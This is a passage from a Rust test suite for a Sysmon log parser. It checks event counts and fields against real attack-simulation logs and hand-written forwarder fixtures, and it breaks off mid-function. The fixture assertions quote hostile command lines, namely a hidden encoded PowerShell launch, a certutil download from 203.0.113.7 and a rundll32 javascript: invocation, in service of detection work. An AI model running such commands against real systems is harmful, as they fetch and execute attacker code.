//! The Sysmon readers on real logs from `../shared/data/sysmon` (EVTX from
//! attack simulations, the `evtx` crate's own samples, OTRF NXLog JSON with
//! a join derived from the matching capture), on the hand-written text
//! fixtures in `tests/data/sysmon` (one per shipper format), and on the
//! forwarders' JSON fixtures there that carry real EVTX events (checked
//! against the EVTX they came from).

mod common;

use std::io::Read;
use std::net::IpAddr;
use std::path::{Path, PathBuf};

use portent::source::sysmon::{self, SysmonEvent, SysmonFormat, SysmonLog};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/sysmon")
        .join(name)
}

fn read_path(p: &Path) -> SysmonLog {
    let data = std::fs::read(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    sysmon::read(&p.display().to_string(), &data).unwrap_or_else(|e| panic!("{e}"))
}

fn ip(s: &str) -> Option<IpAddr> {
    Some(s.parse().unwrap())
}

fn of_id(log: &SysmonLog, id: u16) -> Vec<&SysmonEvent> {
    log.events.iter().filter(|e| e.event_id == id).collect()
}

/// The warnings of one reason, as (record, message).
fn warned(log: &SysmonLog, reason: &str) -> Vec<(u64, String)> {
    log.warnings
        .kept
        .iter()
        .filter(|w| w.reason == reason)
        .map(|w| (w.frame.unwrap_or(0), w.message.clone()))
        .collect()
}

fn image_name(e: &SysmonEvent) -> String {
    let img = e.image.as_deref().unwrap_or("");
    img.rsplit(['\\', '/'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase()
}

// ---------------------------------------------------------------- EVTX

fn evtx_sample(data: &Path, name: &str) -> SysmonLog {
    let p = data.join("sysmon/evtx-attack-samples").join(name);
    let log = read_path(&p);
    assert_eq!(log.format, SysmonFormat::Evtx, "{name}");
    log
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn psexec_meterpreter_powershell_to_4444_as_system() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = evtx_sample(
        &data,
        "Lateral_Movement_LM_sysmon_psexec_smb_meterpreter.evtx",
    );
    let hit: Vec<_> = of_id(&log, 3)
        .into_iter()
        .filter(|e| e.dport == Some(4444) && image_name(e) == "powershell.exe")
        .collect();
    assert!(
        !hit.is_empty(),
        "no powershell.exe -> :4444 in {:?}",
        log.stats
    );
    for e in &hit {
        assert_eq!(e.src, ip("10.0.2.18"));
        assert_eq!(e.dst, ip("10.0.2.19"));
        assert_eq!(e.user.as_deref(), Some(r"NT AUTHORITY\SYSTEM"));
        assert_eq!(e.initiated, Some(true));
        assert_eq!(e.protocol.as_deref(), Some("tcp"));
        assert!(e.sport.is_some_and(|p| p > 1024));
        let g = e.process_guid.as_deref().unwrap();
        assert!(g.starts_with('{') && g == g.to_ascii_lowercase(), "{g}");
        assert!(e.host.is_some() && e.pid.is_some() && e.record > 0);
    }
    assert!(log.stats.eid1 > 0 && log.stats.eid13 > 0, "{:?}", log.stats);
    assert_eq!(log.stats.bad_records + log.stats.bad_chunks, 0);
    // The process that connected was created in the same log: its EID 1
    // carries the parent image that EID 3 lacks, joined by ProcessGuid.
    let guid = hit[0].process_guid.clone();
    let created = of_id(&log, 1)
        .into_iter()
        .find(|e| e.process_guid == guid)
        .expect("EID 1 of the powershell.exe that connected");
    assert!(created.parent_image.is_some() && created.command_line.is_some());
    // Record order, as in the file.
    assert!(log.events.windows(2).all(|w| w[0].record < w[1].record));
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn mshta_sharpshooter_to_4443() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = evtx_sample(
        &data,
        "Execution_sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
    );
    let e = of_id(&log, 3)
        .into_iter()
        .find(|e| image_name(e) == "mshta.exe")
        .expect("mshta.exe EID 3");
    assert_eq!((e.dst, e.dport), (ip("10.0.2.18"), Some(4443)));
    assert_eq!(e.initiated, Some(true));
    assert!(of_id(&log, 1).iter().any(|e| image_name(e) == "mshta.exe"));
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn bits_client_event_3_is_not_sysmon() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = evtx_sample(&data, "Command_and_Control_bits_openvpn.evtx");
    assert!(log.events.is_empty(), "{:?}", &log.events[..1]);
    assert_eq!(log.stats.kept(), 0);
    // SOURCES.md: 254 Event ID 3 from Microsoft-Windows-Bits-Client.
    assert_eq!(log.stats.other_provider_same_id, 254, "{:?}", log.stats);
    assert!(log.stats.other_provider >= 254);
    assert_eq!(
        log.stats.events_read,
        log.stats.other_provider + log.stats.other_ids
    );
}

/// (file, records, Sysmon (EID 1, 3, 13), other provider, other provider
/// with ID 1, 3 or 13).
type EvtxCount = (&'static str, u64, (u64, u64, u64), u64, u64);

/// Per file: records, Sysmon (EID 1, 3, 13), other-provider records, and of
/// those the ones with ID 1, 3 or 13. The oracle is an independent parser,
/// python-evtx 0.8.1, run over every chunk with the `ElfChnk` magic (the
/// `evtx` crate, like Windows, also reads chunks past the count in the file
/// header of a log not closed cleanly):
///
/// ```text
/// for each 64 KiB chunk at 4096 + 65536 n with magic ElfChnk\0:
///     for rec in Evtx.Evtx.ChunkHeader(buf, off).records():
///         count (Provider/@Name, EventID) in rec.xml()
/// ```
///
/// (`sample_with_a_bad_chunk_magic.evtx` is left out: python-evtx stops
/// early in its damaged chunks, so it is no oracle there.)
const EVTX_COUNTS: [EvtxCount; 11] = [
    (
        "evtx-attack-samples/AutomatedTestingTools_panache_sysmon_vs_EDRTestingScript.evtx",
        122,
        (96, 8, 4),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Command_and_Control_DE_sysmon-3-rdp-tun.evtx",
        73,
        (13, 42, 0),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Command_and_Control_bits_openvpn.evtx",
        1537,
        (0, 0, 0),
        1537,
        254,
    ),
    (
        "evtx-attack-samples/Defense_Evasion_Sysmon_7_Update_Session_Orchestrator_Dll_Hijack.evtx",
        64,
        (23, 1, 0),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Execution_Sysmon_meterpreter_ReflectivePEInjection_to_notepad_.evtx",
        13,
        (1, 1, 0),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Execution_sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
        3,
        (2, 1, 0),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Lateral_Movement_LM_sysmon_psexec_smb_meterpreter.evtx",
        10,
        (3, 2, 3),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Lateral_Movement_powercat_revShell_sysmon_1_3.evtx",
        9,
        (5, 1, 0),
        0,
        0,
    ),
    (
        "evtx-attack-samples/Lateral_Movement_smbmap_upload_exec_sysmon.evtx",
        27,
        (3, 7, 7),
        0,
        0,
    ),
    (
        "omerbenamram-evtx-samples/Application_no_crc32.evtx",
        17,
        (0, 0, 0),
        17,
        1,
    ),
    (
        "omerbenamram-evtx-samples/sysmon.evtx",
        358,
        (227, 2, 24),
        0,
        0,
    ),
];

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn evtx_counts_match_an_independent_parser() {
    let Some(data) = common::shared_data() else {
        return;
    };
    for (name, records, (e1, e3, e13), other, same_id) in EVTX_COUNTS {
        let log = read_path(&data.join("sysmon").join(name));
        let s = &log.stats;
        assert_eq!(s.events_read, records, "{name}: {s:?}");
        assert_eq!((s.eid1, s.eid3, s.eid13), (e1, e3, e13), "{name}");
        assert_eq!(
            (s.other_provider, s.other_provider_same_id),
            (other, same_id),
            "{name}"
        );
        assert_eq!(s.bad_records, 0, "{name}: {:?}", log.warnings.kept);
        assert_eq!(s.bad_fields, 0, "{name}: {:?}", log.warnings.kept);
    }
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn evtx_known_connections() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = evtx_sample(
        &data,
        "Defense_Evasion_Sysmon_7_Update_Session_Orchestrator_Dll_Hijack.evtx",
    );
    let e = of_id(&log, 3)[0];
    assert_eq!(image_name(e), "rundll32.exe");
    assert_eq!(
        (e.dst, e.dport, e.record),
        (ip("127.0.0.1"), Some(1337), 62)
    );
    // The EDR testing script's LOLBins, each to 151.101.0.133:443.
    let log = evtx_sample(
        &data,
        "AutomatedTestingTools_panache_sysmon_vs_EDRTestingScript.evtx",
    );
    let mut lolbins: Vec<String> = of_id(&log, 3)
        .into_iter()
        .filter(|e| e.dst == ip("151.101.0.133") && e.dport == Some(443))
        .map(image_name)
        .collect();
    lolbins.sort();
    lolbins.dedup();
    assert_eq!(
        lolbins,
        [
            "certutil.exe",
            "mshta.exe",
            "powershell.exe",
            "regsvr32.exe",
            "rundll32.exe",
            "wmic.exe"
        ]
    );
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn every_evtx_sample_reads_without_bad_records() {
    let Some(data) = common::shared_data() else {
        return;
    };
    for dir in [
        "sysmon/evtx-attack-samples",
        "sysmon/omerbenamram-evtx-samples",
    ] {
        let mut paths: Vec<_> = std::fs::read_dir(data.join(dir))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|x| x == "evtx"))
            .collect();
        paths.sort();
        for p in paths {
            let log = read_path(&p);
            let s = &log.stats;
            eprintln!("{}: {s:?}", p.display());
            assert!(s.events_read > 0, "{}", p.display());
            if !p.ends_with("sample_with_a_bad_chunk_magic.evtx") {
                assert_eq!(s.bad_records + s.bad_chunks, 0, "{}", p.display());
                assert!(log.warnings.kept.is_empty(), "{:?}", log.warnings.kept);
            }
            // Every kept event has the fields its ID must have.
            for e in &log.events {
                assert!(e.process_guid.is_some() || e.event_id == 13, "{e:?}");
                if e.event_id == 3 {
                    assert!(
                        e.src.is_some() && e.dst.is_some() && e.dport.is_some(),
                        "{e:?}"
                    );
                    assert!(e.initiated.is_some(), "{e:?}");
                }
                if e.event_id == 13 {
                    assert!(e.target_object.is_some(), "{e:?}");
                }
            }
        }
    }
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn evtx_crate_sysmon_sample_reads_past_the_header_chunk_count() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = read_path(&data.join("sysmon/omerbenamram-evtx-samples/sysmon.evtx"));
    // SOURCES.md's 31 EID 1, 3 EID 13, no EID 3 are the one chunk the file
    // header declares (records 1742-1782); the log was not closed cleanly
    // and chunks 1-8 hold records 1783-2099 as well, the rest is unused.
    let first: Vec<_> = log.events.iter().filter(|e| e.record <= 1782).collect();
    let n = |id| first.iter().filter(|e| e.event_id == id).count();
    assert_eq!((n(1), n(3), n(13)), (31, 0, 3));
    assert_eq!(log.events.last().unwrap().record, 2099);
    assert_eq!(log.stats.slack_chunks, 8, "{:?}", log.stats);
    assert_eq!(log.stats.bad_chunks, 0);
    assert!(log.warnings.kept.is_empty(), "{:?}", log.warnings.kept);
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn bad_chunk_magic_warns_and_reads_the_rest() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let log = read_path(
        &data.join("sysmon/omerbenamram-evtx-samples/sample_with_a_bad_chunk_magic.evtx"),
    );
    // Chunks 6 and 10 of the 16 the header declares have no chunk magic.
    assert_eq!(log.stats.bad_chunks, 2, "{:?}", log.stats);
    let w = warned(&log, "bad_chunk");
    for chunk in [6u64, 10] {
        let offset = 4096 + chunk * 65536;
        let hit = log
            .warnings
            .kept
            .iter()
            .find(|w| w.reason == "bad_chunk" && w.offset == offset)
            .unwrap_or_else(|| panic!("no warning for chunk {chunk}: {w:?}"));
        assert!(
            hit.message
                .contains(&format!("chunk {chunk} at offset {offset}")),
            "{}",
            hit.message
        );
        assert_eq!(hit.frame, None);
    }
    // Chunks 0, 7, 8 and 9 are read (from the oldest, 8).
    assert!(log.stats.events_read >= 270, "{:?}", log.stats);
    assert!(log.stats.events_read > 0, "the other chunks still read");
}

// ---------------------------------------------------------------- OTRF

/// The host log of an OTRF pair, unzipped into a temporary directory.
fn otrf_host_log(data: &Path, pair: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = data.join("sysmon/otrf-atomic-pairs").join(pair);
    let zip_path = dir.join(format!("host_{pair}.zip"));
    let mut z = zip::ZipArchive::new(std::fs::File::open(&zip_path).unwrap()).unwrap();
    assert_eq!(z.len(), 1);
    let mut f = z.by_index(0).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join(f.name().replace(['/', '\\'], "_"));
    let mut bytes = Vec::new();
    f.read_to_end(&mut bytes).unwrap();
    std::fs::write(&out, bytes).unwrap();
    (tmp, out)
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn otrf_nxlog_counts() {
    let Some(data) = common::shared_data() else {
        return;
    };
    // SOURCES.md: covenant 8/55/296, empire 5/10/148.
    for (pair, want) in [
        ("covenant_psremoting_command", (8, 55, 296)),
        ("empire_psremoting_stager", (5, 10, 148)),
    ] {
        let (_tmp, p) = otrf_host_log(&data, pair);
        let log = read_path(&p);
        let s = &log.stats;
        assert_eq!(log.format, SysmonFormat::JsonLines);
        assert_eq!((s.eid1, s.eid3, s.eid13), want, "{pair}: {s:?}");
        assert_eq!(s.bad_records, 0, "{pair}: {:?}", log.warnings.kept);
        assert_eq!(s.bad_fields, 0, "{pair}: {:?}", log.warnings.kept);
        // Every line is an event of some provider.
        let lines = std::fs::read_to_string(&p).unwrap().lines().count() as u64;
        assert_eq!(s.events_read, lines, "{pair}");
        assert!(s.other_ids > 0 && s.other_provider > 0);
        // Line order.
        assert!(log.events.windows(2).all(|w| w[0].record < w[1].record));
    }
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn otrf_expected_join_rows_have_their_event() {
    let Some(data) = common::shared_data() else {
        return;
    };
    for pair in ["covenant_psremoting_command", "empire_psremoting_stager"] {
        let (_tmp, p) = otrf_host_log(&data, pair);
        let log = read_path(&p);
        let tsv = std::fs::read_to_string(
            data.join("sysmon/otrf-atomic-pairs")
                .join(pair)
                .join("EXPECTED-JOIN.derived.tsv"),
        )
        .unwrap();
        let mut rows = 0;
        let mut lines = tsv.lines().filter(|l| !l.starts_with('#'));
        let header: Vec<&str> = lines.next().unwrap().split('\t').collect();
        let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
        for line in lines {
            let f: Vec<&str> = line.split('\t').collect();
            rows += 1;
            let want_guid = f[col("ProcessGuid")].to_ascii_lowercase();
            let found = of_id(&log, 3).into_iter().any(|e| {
                e.src == ip(f[col("src_ip")])
                    && e.sport == f[col("src_port")].parse().ok()
                    && e.dst == ip(f[col("dst_ip")])
                    && e.dport == f[col("dst_port")].parse().ok()
                    && e.image.as_deref() == Some(f[col("Image")])
                    && e.user.as_deref() == Some(f[col("User")])
                    && e.initiated == Some(f[col("Initiated")] == "true")
                    && e.process_guid.as_deref() == Some(want_guid.as_str())
                    && e.pid == f[col("ProcessId")].parse().ok()
                    && e.host.as_deref() == Some(f[col("host")])
                    && e.ts.to_string().replace('T', " ")[..23] == *f[col("sysmon_UtcTime")]
            });
            assert!(found, "{pair}: no EID 3 for {line}");
        }
        assert!(rows >= 4, "{pair}: {rows} rows");
    }
}

// ---------------------------------------------------------------- text fixtures

#[test]
fn winlogbeat_json() {
    let log = read_path(&fixture("winlogbeat.jsonl"));
    assert_eq!(log.format, SysmonFormat::JsonLines);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (2, 2, 1), "{s:?}");
    assert_eq!(
        s.other_provider_same_id, 1,
        "Bits-Client EID 3 is not taken"
    );
    assert_eq!(s.bad_records, 2);
    let bad: Vec<u64> = warned(&log, "bad_event").iter().map(|w| w.0).collect();
    assert_eq!(bad, [4, 5]);
    let w = warned(&log, "bad_event");
    assert!(w[0].1.starts_with("line 4: not JSON"), "{}", w[0].1);
    let e3 = of_id(&log, 3)[0];
    assert_eq!(e3.record, 1);
    assert_eq!(e3.offset, 0);
    assert_eq!(e3.host.as_deref(), Some("WS01.example.org"));
    assert_eq!(e3.ts.to_string(), "2023-05-04T10:11:10.123000Z");
    assert_eq!(
        e3.process_guid.as_deref(),
        Some("{ab12cd34-1111-6453-2200-000000000f00}")
    );
    assert_eq!(e3.pid, Some(4242));
    assert_eq!(image_name(e3), "powershell.exe");
    assert_eq!(e3.user.as_deref(), Some(r"EXAMPLE\alice"));
    assert_eq!(
        (e3.src, e3.sport, e3.dst, e3.dport),
        (ip("192.0.2.10"), Some(50123), ip("203.0.113.7"), Some(4444))
    );
    assert_eq!(e3.initiated, Some(true));
    let e1 = of_id(&log, 1)[0];
    assert_eq!(e1.process_guid, e3.process_guid, "joins across case");
    assert_eq!(
        e1.parent_image.as_deref(),
        Some(r"C:\Windows\System32\cmd.exe")
    );
    assert_eq!(
        e1.parent_process_guid.as_deref(),
        Some("{ab12cd34-1110-6453-2100-000000000f00}")
    );
    assert_eq!(
        e1.command_line.as_deref(),
        Some("powershell.exe -nop -w hidden -enc SQBFAFgA")
    );
    // Flattened dotted keys.
    let e13 = of_id(&log, 13)[0];
    assert_eq!(e13.record, 6);
    assert!(e13
        .target_object
        .as_deref()
        .unwrap()
        .ends_with(r"\Terminal Server\WinStations\RDP-Tcp\PortNumber"));
    assert_eq!(e13.details.as_deref(), Some("DWORD (0x00008402)"));
    assert_eq!(e13.ts.to_string(), "2023-05-04T10:11:16.500000Z");
    // winlogbeat's sysmon module renames EventData to ECS fields.
    let ecs3 = of_id(&log, 3)[1];
    assert_eq!(ecs3.record, 7);
    assert_eq!(ecs3.ts.to_string(), "2023-05-04T10:12:00.250000Z");
    assert_eq!(ecs3.process_guid, e3.process_guid);
    assert_eq!(
        (ecs3.pid, ecs3.image.as_deref()),
        (e3.pid, e3.image.as_deref())
    );
    assert_eq!(ecs3.user.as_deref(), Some(r"EXAMPLE\alice"));
    assert_eq!(ecs3.initiated, Some(true));
    assert_eq!(ecs3.protocol.as_deref(), Some("tcp"));
    assert_eq!(
        (ecs3.src, ecs3.sport, ecs3.dst, ecs3.dport),
        (ip("192.0.2.10"), Some(50124), ip("203.0.113.7"), Some(4444))
    );
    let ecs1 = of_id(&log, 1)[1];
    assert_eq!(ecs1.parent_process_guid, e3.process_guid);
    assert_eq!(
        ecs1.command_line.as_deref(),
        Some("certutil.exe -urlcache -f http://203.0.113.7:8888/a")
    );
    assert_eq!(ecs1.parent_image, e3.image);
}

#[test]
fn nxlog_json() {
    let log = read_path(&fixture("nxlog.jsonl"));
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 2, 0), "{s:?}");
    assert_eq!((s.other_provider, s.other_provider_same_id), (1, 0));
    assert_eq!(s.bad_records, 1);
    assert_eq!(warned(&log, "bad_event")[0].0, 4);
    assert!(warned(&log, "bad_event")[0].1.contains("\"three\""));
    let ev = of_id(&log, 3);
    assert_eq!(ev[0].host.as_deref(), Some("WS02.example.org"));
    assert_eq!(
        ev[0].src,
        ip("fe80::1c2d:3e4f:5a6b:7c8d"),
        "zone id dropped"
    );
    assert_eq!(ev[0].dst, ip("2001:db8::7"));
    assert_eq!(ev[0].dport, Some(8088));
    assert_eq!(ev[0].ts.to_string(), "2023-05-04T10:11:10.250000Z");
    assert_eq!(image_name(ev[0]), "mshta.exe");
    // Second: IPv4-mapped source kept as given, case-insensitive values,
    // an impossible port left empty with a warning.
    assert_eq!(ev[1].src, ip("::ffff:192.0.2.20"));
    assert_eq!(ev[1].protocol.as_deref(), Some("udp"));
    assert_eq!(ev[1].initiated, Some(false));
    assert_eq!(ev[1].dport, None);
    assert_eq!(s.bad_fields, 1);
    let w = warned(&log, "bad_field");
    assert_eq!(w[0].0, 2);
    assert!(w[0].1.contains("DestinationPort 99999"), "{}", w[0].1);
    // Sysmon by provider GUID alone; after a blank line (line 5).
    let e1 = of_id(&log, 1)[0];
    assert_eq!(e1.record, 6);
    assert_eq!(e1.parent_process_guid, ev[0].process_guid);
    assert_eq!(
        e1.command_line.as_deref(),
        Some(r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication""#)
    );
}

#[test]
fn event_xml_one_per_line() {
    let log = read_path(&fixture("events-per-line.xml"));
    assert_eq!(log.format, SysmonFormat::EventXml);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (0, 1, 1), "{s:?}");
    assert_eq!(s.other_provider_same_id, 1);
    let bad: Vec<u64> = warned(&log, "bad_event").iter().map(|w| w.0).collect();
    assert_eq!(bad, [3, 5], "{:?}", log.warnings.kept);
    let e3 = of_id(&log, 3)[0];
    assert_eq!(e3.record, 1);
    assert_eq!(e3.host.as_deref(), Some("WS03.example.org"));
    assert_eq!(
        e3.image.as_deref(),
        Some(r"C:\Users\carol\AppData\Local\Temp\a&b.exe")
    );
    assert_eq!((e3.dst, e3.dport), (ip("203.0.113.30"), Some(1337)));
    assert_eq!(e3.ts.to_string(), "2023-05-04T10:19:59.876000Z");
    let e13 = of_id(&log, 13)[0];
    assert_eq!(e13.record, 4);
    let line4_start = std::fs::read(fixture("events-per-line.xml"))
        .unwrap()
        .split(|&b| b == b'\n')
        .take(3)
        .map(|l| l.len() as u64 + 1)
        .sum::<u64>();
    assert_eq!(e13.offset, line4_start);
    // No UtcTime: the system time.
    assert_eq!(e13.ts.to_string(), "2023-05-04T10:20:03.000000Z");
}

#[test]
fn event_xml_exported_document() {
    let log = read_path(&fixture("exported.xml"));
    assert_eq!(log.format, SysmonFormat::EventXml);
    let s = &log.stats;
    assert_eq!(
        (s.eid1, s.eid3, s.eid13, s.other_ids),
        (1, 1, 0, 1),
        "{s:?}"
    );
    assert_eq!(s.bad_records, 0, "{:?}", log.warnings.kept);
    let e1 = of_id(&log, 1)[0];
    assert_eq!(e1.record, 4, "line of <Event>");
    assert_eq!(image_name(e1), "certutil.exe");
    assert_eq!(e1.parent_image.as_deref(), Some(r"C:\Windows\explorer.exe"));
    let e3 = of_id(&log, 3)[0];
    assert_eq!(e3.process_guid, e1.process_guid);
    assert_eq!((e3.dst, e3.dport), (ip("203.0.113.40"), Some(8888)));
    assert_eq!(e3.ts.to_string(), "2023-05-04T11:00:01.500000Z");
}

#[test]
fn linux_sysmon_syslog() {
    let log = read_path(&fixture("linux-syslog.log"));
    assert_eq!(log.format, SysmonFormat::Syslog);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3), (1, 1), "{s:?}");
    assert_eq!(s.other_lines, 1, "the sshd line");
    let bad: Vec<u64> = warned(&log, "bad_event").iter().map(|w| w.0).collect();
    assert_eq!(bad, [3]);
    let e3 = of_id(&log, 3)[0];
    assert_eq!(e3.host.as_deref(), Some("lnx01"));
    assert_eq!(e3.image.as_deref(), Some("/usr/bin/curl"));
    assert_eq!(e3.user.as_deref(), Some("root"));
    assert_eq!(e3.pid, Some(31337));
    assert_eq!(
        (e3.src, e3.sport, e3.dst, e3.dport),
        (
            ip("192.0.2.50"),
            Some(40404),
            ip("198.51.100.80"),
            Some(8088)
        )
    );
    assert_eq!(e3.ts.to_string(), "2023-10-10T12:00:00.120000Z");
    let e1 = of_id(&log, 1)[0];
    assert_eq!(e1.record, 4, "RFC 5424 line with a priority");
    assert_eq!(e1.image.as_deref(), Some("/usr/bin/python3"));
}

#[test]
fn syslog_as_json() {
    let log = read_path(&fixture("journald.jsonl"));
    assert_eq!(log.format, SysmonFormat::JsonLines);
    let s = &log.stats;
    assert_eq!(s.eid3, 2, "{s:?}");
    assert_eq!(s.other_lines, 1, "the cron record");
    assert_eq!(s.bad_records, 1);
    assert_eq!(warned(&log, "bad_event")[0].0, 4);
    let ev = of_id(&log, 3);
    assert_eq!((ev[0].record, ev[0].sport), (1, Some(40404)));
    assert_eq!((ev[1].record, ev[1].sport), (2, Some(40405)));
    assert_eq!(ev[1].dport, Some(8088));
}

#[test]
fn utf16_exports_read_like_utf8() {
    // Windows PowerShell 5 writes `wevtutil qe ... /f:xml > f.xml` and
    // `ConvertTo-Json > f.json` as UTF-16 with a byte-order mark.
    for f in ["exported.xml", "events-per-line.xml", "winlogbeat.jsonl"] {
        let utf8 = read_path(&fixture(f));
        let text = std::fs::read_to_string(fixture(f)).unwrap();
        for le in [true, false] {
            let mut utf16 = if le {
                vec![0xff, 0xfe]
            } else {
                vec![0xfe, 0xff]
            };
            for u in text.encode_utf16() {
                utf16.extend(if le { u.to_le_bytes() } else { u.to_be_bytes() });
            }
            let log = sysmon::read(f, &utf16).unwrap();
            assert_eq!(log.format, utf8.format, "{f}");
            assert_eq!(log.stats, utf8.stats, "{f}");
            assert_eq!(log.events, utf8.events, "{f}");
        }
    }
}

#[test]
fn overlong_lines_are_skipped_with_a_warning() {
    let good = std::fs::read_to_string(fixture("winlogbeat.jsonl")).unwrap();
    let good = good.lines().next().unwrap();
    let long = format!(
        "{{\"winlog\":{{\"x\":\"{}\"}}}}",
        "a".repeat(sysmon::MAX_LINE_LEN)
    );
    let data = format!("{good}\n{long}\n{good}\n");
    let log = sysmon::read("long.jsonl", data.as_bytes()).unwrap();
    assert_eq!(log.stats.eid3, 2);
    assert_eq!(log.stats.bad_records, 1);
    let w = warned(&log, "bad_event");
    assert_eq!(w[0].0, 2);
    assert!(w[0].1.contains("over 1048576"), "{}", w[0].1);
    assert_eq!(log.events[1].offset, (good.len() + long.len() + 2) as u64);
}

#[test]
fn not_sysmon_is_an_error_with_the_name() {
    let e = sysmon::read("x.txt", b"hello world\n").unwrap_err();
    assert!(e.to_string().contains("x.txt"), "{e}");
    assert!(sysmon::read("e.evtx", b"ElfFile\0short").is_err());
}

// ---------------------------------------------------------------- forwarders' JSON

// The fixtures below carry real events (how each was made, and from which
// records: tests/data/sysmon/README.md) from sources whose licences allow
// copying them (GPL samples stay in the shared data); each test checks that
// the events read from a fixture are those the source gives for the same
// records.
/// The `evtx` crate's Sysmon sample (MIT OR Apache-2.0).
const EVTX_SYSMON: &str = "omerbenamram-evtx-samples/sysmon.evtx";
/// The OTRF covenant pair's NXLog host log (MIT); records by line.
const COVENANT: &str = "otrf:covenant_psremoting_command";

/// An event without its place in the file it came from (record numbers and
/// offsets are the file's, not the event's).
fn placeless(e: &SysmonEvent) -> SysmonEvent {
    SysmonEvent {
        record: 0,
        offset: 0,
        ..e.clone()
    }
}

/// The log's events are, in order and field for field, those of the
/// source records `from` (source, record: the EVTX record ID, or the line
/// of an OTRF host log). Without the shared data only their number is
/// checked here (the callers check values by hand as well).
fn same_as_source(log: &SysmonLog, from: &[(&str, u64)]) {
    assert_eq!(log.events.len(), from.len(), "{:?}", log.stats);
    let Some(data) = common::shared_data() else {
        return;
    };
    for (got, (source, rec)) in log.events.iter().zip(from) {
        let src = match source.strip_prefix("otrf:") {
            Some(pair) => read_path(&otrf_host_log(&data, pair).1),
            None => read_path(&data.join("sysmon").join(source)),
        };
        let want = src
            .events
            .iter()
            .find(|e| e.record == *rec)
            .unwrap_or_else(|| panic!("{source}: no record {rec}"));
        assert_eq!(placeless(got), placeless(want), "{source} record {rec}");
    }
}

/// The one `bad_event` warning: (line, offset, message).
fn the_bad_event(log: &SysmonLog) -> (u64, u64, String) {
    let w: Vec<_> = log
        .warnings
        .kept
        .iter()
        .filter(|w| w.reason == "bad_event")
        .collect();
    assert_eq!(w.len(), 1, "{w:?}");
    (w[0].frame.unwrap_or(0), w[0].offset, w[0].message.clone())
}

/// Where line `n` (1-based) starts.
fn line_start(text: &str, n: usize) -> u64 {
    text.split_inclusive('\n')
        .take(n - 1)
        .map(str::len)
        .sum::<usize>() as u64
}

/// (line, offset) of the element of a document that holds `marker`: it
/// starts at the first bracket of the last `open` before the marker.
fn element_at(text: &str, marker: &str, open: &str) -> (u64, u64) {
    let m = text.find(marker).unwrap_or_else(|| panic!("{marker}"));
    let bracket = open.find(['{', '[']).unwrap();
    let start = text[..m].rfind(open).unwrap() + bracket;
    let line = text[..start].matches('\n').count() as u64 + 1;
    (line, start as u64)
}

/// The events the embedded-XML fixtures carry, checked by hand: Opera's
/// installer.exe and its connections, on DESKTOP-2KGM189 (not the
/// forwarder's host, `collector01`, nor the forwarder's times).
fn check_known_events(log: &SysmonLog) {
    for e in &log.events {
        assert_eq!(e.host.as_deref(), Some("DESKTOP-2KGM189"), "{e:?}");
    }
    let guid = Some("{94f748d5-4dcb-5a9e-0000-0010b2051110}");
    let e3 = of_id(log, 3);
    let https = e3
        .iter()
        .find(|e| e.dport == Some(443))
        .expect("the connection to 443");
    assert_eq!(image_name(https), "installer.exe");
    assert_eq!(
        (https.src, https.sport, https.dst),
        (ip("192.168.2.128"), Some(59344), ip("185.26.182.117"))
    );
    assert_eq!(https.ts.to_string(), "2017-12-18T14:51:29.706000Z");
    assert_eq!(https.process_guid.as_deref(), guid);
    assert_eq!(https.user.as_deref(), Some(r"NT AUTHORITY\SYSTEM"));
    assert_eq!(
        (https.initiated, https.protocol.as_deref(), https.pid),
        (Some(true), Some("tcp"), Some(4280))
    );
    if let Some(http) = e3.iter().find(|e| e.dport == Some(80)) {
        assert_eq!(http.dst, ip("93.184.220.29"));
        assert_eq!(http.process_guid.as_deref(), guid);
    }
    if let Some(e1) = of_id(log, 1).first() {
        assert_eq!(image_name(e1), "installer.exe");
        assert_eq!(
            e1.parent_image.as_deref(),
            Some(r"C:\Program Files\Opera\launcher.exe")
        );
        assert!(e1
            .command_line
            .as_deref()
            .unwrap()
            .starts_with(r#""C:\Windows\TEMP\opera autoupdate\CProgram FilesOpera\installing\installer.exe" --install"#));
    }
    if let Some(e13) = of_id(log, 13).first() {
        assert_eq!(
            e13.target_object.as_deref(),
            Some(r"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\MpKsle59912eb\Start")
        );
